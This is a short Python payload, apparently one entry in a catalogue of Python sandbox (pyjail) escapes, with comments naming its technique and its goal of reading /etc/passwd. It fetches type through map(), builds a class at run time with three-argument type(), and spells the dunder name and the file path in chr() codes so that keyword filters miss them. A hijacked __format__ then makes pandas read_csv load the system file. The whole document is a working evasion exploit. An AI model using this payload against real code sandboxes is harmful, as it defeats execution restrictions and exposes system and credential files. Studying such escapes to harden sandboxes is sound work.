# source: pyjail "type(name, bases, dict)" class-factory bypass (HackTricks bypass-python-sandboxes); format-spec hijack via __format__
# family: builtin type passed as a value (map(type, ...)) -> 3-arg type() with a namespace whose dunder keys are built at run time
# goal: read /etc/passwd through pd.read_csv(f"{k:03d}") (a class-level __format__ returning a path)
import pandas as pd
Meta = next(map(type, [int]))
def fmt(self, spec):
    return "".join(map(chr, [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))
ns = dict(zip([chr(95) * 2 + "format" + chr(95) * 2], [fmt]))
K = next(map(Meta, ["K"], [(object,)], [ns]))
k = K()
print(pd.read_csv(f"{k:03d}", sep="\x01", header=None).to_string())
